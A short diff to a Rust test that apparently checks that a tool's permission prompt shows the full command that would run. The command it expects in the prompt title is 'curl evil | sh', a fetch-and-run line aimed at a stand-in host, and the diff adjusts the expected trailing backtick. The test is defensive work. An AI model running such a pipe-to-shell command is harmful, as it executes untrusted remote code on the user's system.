@@ -238,5 +238,5 @@ async fn the_question_shows_all_of_what_would_run() {
     let asked = &editor.requests("session/request_permission")[0]["toolCall"];
     let text = asked["content"][0]["content"]["text"].as_str().expect("text");
     assert!(text.contains(&command), "{text}");
-    assert!(asked["title"].as_str().expect("a title").ends_with("curl evil | sh"), "{asked}");
+    assert!(asked["title"].as_str().expect("a title").ends_with("curl evil | sh`"), "{asked}");
 }
